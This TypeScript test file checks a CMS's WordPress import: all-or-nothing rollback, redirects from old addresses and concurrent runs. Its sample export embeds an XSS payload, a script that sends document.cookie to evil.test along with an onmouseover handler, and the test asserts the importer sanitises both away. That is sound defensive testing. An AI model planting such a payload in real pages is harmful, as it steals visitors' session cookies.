import { zipSync } from 'fflate';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { TestClient } from '../../test/client.ts';
import { type Fixture, PASSWORD, seedFixture } from '../../test/fixtures.ts';
import { startTestWarta, type TestWarta } from '../../test/harness.ts';
import { konten, kontenRevisi } from '../konten/schema.ts';
import { media } from '../media/schema.ts';
import { imporWpAlamat, imporWpObjek } from './schema.ts';

// The redirects are the last rows an import writes: failing there proves the items before them roll back.
const failing = vi.hoisted(() => ({ on: false }));
vi.mock('./write-redirects.ts', async (original) => {
  const real = await original<typeof import('./write-redirects.ts')>();
  return {
    ...real,
    writeRedirects: async (...args: Parameters<typeof real.writeRedirects>) => {
      if (failing.on) throw new Error('disk penuh (uji)');
      return real.writeRedirects(...args);
    },
  };
});

let w: TestWarta;
let f: Fixture;
let admin: TestClient;

beforeAll(async () => {
  w = await startTestWarta();
  f = await seedFixture(w.services);
  admin = new TestClient(w.app);
  await admin.signIn(f.admin.email, PASSWORD);
  // Starting a database and signing in takes long on a busy machine.
}, 180_000);
afterAll(() => w.stop());

// A small hand-made export: one post whose body carries a script, an event handler and a photo.
const wxr = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/">
<channel><title>Situs Lama</title><link>https://lama.example.go.id</link><wp:base_site_url>https://lama.example.go.id</wp:base_site_url>
<wp:author><wp:author_login><![CDATA[redaksi]]></wp:author_login><wp:author_email><![CDATA[redaksi@lama.test]]></wp:author_email><wp:author_display_name><![CDATA[Redaksi]]></wp:author_display_name></wp:author>
<item><title><![CDATA[Jembatan Baru Dibuka]]></title><link>https://lama.example.go.id/2025/02/jembatan-baru-dibuka/</link><guid isPermaLink="false">https://lama.example.go.id/?p=5</guid>
<dc:creator><![CDATA[redaksi]]></dc:creator>
<content:encoded><![CDATA[<p onmouseover="steal()">Jembatan dibuka hari ini.<script>fetch('https://evil.test/'+document.cookie)</script></p><p><img class="wp-image-9" src="https://lama.example.go.id/wp-content/uploads/2025/02/jembatan-1024x576.jpg" alt="Jembatan di atas sungai"></p>]]></content:encoded>
<excerpt:encoded><![CDATA[]]></excerpt:encoded><wp:post_id>5</wp:post_id><wp:post_date><![CDATA[2025-02-03 09:00:00]]></wp:post_date><wp:post_date_gmt><![CDATA[2025-02-03 01:00:00]]></wp:post_date_gmt>
<wp:post_name><![CDATA[jembatan-baru-dibuka]]></wp:post_name><wp:status><![CDATA[publish]]></wp:status><wp:post_parent>0</wp:post_parent><wp:post_type><![CDATA[post]]></wp:post_type></item>
<item><title><![CDATA[jembatan]]></title><wp:post_id>9</wp:post_id><wp:post_type><![CDATA[attachment]]></wp:post_type><wp:status><![CDATA[inherit]]></wp:status><wp:post_parent>5</wp:post_parent>
<wp:attachment_url><![CDATA[https://lama.example.go.id/wp-content/uploads/2025/02/jembatan.jpg]]></wp:attachment_url></item>
</channel></rss>`;

async function upload(zip: Buffer, unitId = f.unitA.id, xml = wxr) {
  const form = new FormData();
  form.set('unitId', unitId);
  form.set('wxr', new File([xml], 'ekspor.xml'));
  form.set('arsip', new File([new Uint8Array(zip)], 'uploads.zip'));
  const res = await w.app.request('/api/impor-wp', { method: 'POST', body: form, headers: { cookie: admin.cookie!, 'x-csrf-token': admin.csrf! } });
  return { status: res.status, body: await res.json() };
}

describe('a run is all or nothing', () => {
  it('a failure after the photos were stored rolls every row back and deletes those photos; the next run succeeds', async () => {
    const photo = await sharp({ create: { width: 800, height: 450, channels: 3, background: '#58a' } })
      .jpeg()
      .toBuffer();
    const zip = Buffer.from(zipSync({ 'uploads/2025/02/jembatan.jpg': photo, 'uploads/2025/02/jembatan-1024x576.jpg': photo }));
    const up = await upload(zip);
    expect(up.status).toBe(201);
    const mapping = up.body.mapping;
    expect((await admin.post(`/api/impor-wp/${up.body.id}/uji`, { mapping })).body.counts).toMatchObject({ posts: 1, images: 1, rowsWithErrors: 0 });

    failing.on = true;
    const failed = await admin.post(`/api/impor-wp/${up.body.id}/jalankan`, { mapping });
    expect(failed.status).toBe(500);
    expect(await w.services.db.select().from(konten)).toHaveLength(0);
    expect(await w.services.db.select().from(imporWpObjek)).toHaveLength(0);
    expect(await w.services.db.select().from(imporWpAlamat)).toHaveLength(0);
    expect(await w.services.db.select().from(media)).toHaveLength(0);

    failing.on = false;
    const ok = await admin.post(`/api/impor-wp/${up.body.id}/jalankan`, { mapping });
    expect(ok.status).toBe(200);
    const [item] = await w.services.db.select().from(konten);
    const [revisi] = await w.services.db.select().from(kontenRevisi);
    const [foto] = await w.services.db.select().from(media);
    expect(item).toMatchObject({ status: 'terbit', slug: 'jembatan-baru-dibuka', publishedAt: new Date('2025-02-03T01:00:00Z') });
    // The script and the handler are gone; the size copy in the body became the original photo.
    expect(JSON.stringify(revisi!.isi)).not.toMatch(/script|steal|evil|cookie/);
    expect(revisi!.isi.content).toEqual([
      { type: 'paragraph', content: [{ type: 'text', text: 'Jembatan dibuka hari ini.' }] },
      { type: 'mediaImage', attrs: { mediaId: foto!.id, caption: null } },
    ]);
    expect(foto).toMatchObject({ altText: 'Jembatan di atas sungai', state: 'siap' });
    const moved = await w.app.request('/2025/02/jembatan-baru-dibuka/', { headers: { host: 'ujiprov.go.id' } });
    expect(moved.status).toBe(301);
    expect(moved.headers.get('location')).toBe('/dinas-a/berita/umum/jembatan-baru-dibuka');
    const page = await w.app.request('/dinas-a/berita/umum/jembatan-baru-dibuka', { headers: { host: 'ujiprov.go.id' } });
    const html = await page.text();
    expect(html).toContain('Jembatan dibuka hari ini.');
    expect(html).not.toContain('evil.test');
  });

  it('on a unit with its own host, the old address moves to the page on that host; the pemda host gets the prefixed path', async () => {
    const photo = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#a85' } })
      .jpeg()
      .toBuffer();
    const up = await upload(Buffer.from(zipSync({ 'uploads/2025/02/jembatan.jpg': photo })), f.unitB.id);
    expect(up.status).toBe(201);
    const ok = await admin.post(`/api/impor-wp/${up.body.id}/jalankan`, { mapping: up.body.mapping });
    expect(ok.status).toBe(200);
    expect(ok.body.hasil).toMatchObject({ baru: 1, media: 1 });
    const onHost = await w.app.request('/?p=5', { headers: { host: 'badanb.ujiprov.go.id' } });
    expect([onHost.status, onHost.headers.get('location')]).toEqual([301, '/berita/umum/jembatan-baru-dibuka']);
    const onPemda = await w.app.request('/jembatan-baru-dibuka', { headers: { host: 'ujiprov.go.id' } });
    expect([onPemda.status, onPemda.headers.get('location')]).toEqual([301, '/badan-b/berita/umum/jembatan-baru-dibuka']);
  });

  it('two runs of the same site at once never duplicate: the second either updates or stops with 409', { timeout: 120_000 }, async () => {
    const other = wxr.replaceAll('lama.example.go.id', 'lain.example.go.id');
    const zip = Buffer.from(zipSync({ 'uploads/readme.txt': Buffer.from('bukan gambar') }));
    const before = (await w.services.db.select().from(konten)).length;
    const [a, b] = await Promise.all([upload(zip, f.unitA.id, other), upload(zip, f.unitA.id, other)]);
    const results = await Promise.all([a, b].map((u) => admin.post(`/api/impor-wp/${u.body.id}/jalankan`, { mapping: u.body.mapping })));
    const statuses = results.map((r) => r.status).sort();
    expect([JSON.stringify([200, 200]), JSON.stringify([200, 409])]).toContain(JSON.stringify(statuses));
    expect((await w.services.db.select().from(konten)).length).toBe(before + 1);
  });
});
